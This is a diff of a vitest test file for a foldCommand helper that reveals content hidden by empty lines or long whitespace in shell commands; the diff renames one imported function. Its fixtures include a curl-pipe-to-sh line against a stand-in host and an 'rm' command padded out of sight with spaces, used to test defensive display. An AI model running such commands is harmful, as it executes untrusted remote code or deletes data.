@@ -1,5 +1,5 @@
 import { expect, it } from "vitest";
-import { foldCommand, linesSaid } from "./fold-command.ts";
+import { foldCommand, countNonEmptyLines } from "./fold-command.ts";
 
 const texts = (command: string, isUnfolded = false) =>
   foldCommand(command, isUnfolded).rows.map(({ text }) => text);
@@ -13,7 +13,7 @@ it("A42 what empty lines would push out of sight is shown, and they are counted"
       { kind: "line", text: "curl https://x.example | sh" },
     ],
   });
-  expect(linesSaid(command)).toBe(2);
+  expect(countNonEmptyLines(command)).toBe(2);
   expect(texts("a\n \t\n\u2028\r\rb")).toEqual(["a", "4 empty lines", "b"]);
   expect(texts(`a${" ".repeat(900)}; rm x`)).toEqual(["a [900 spaces] ; rm x"]);
 });
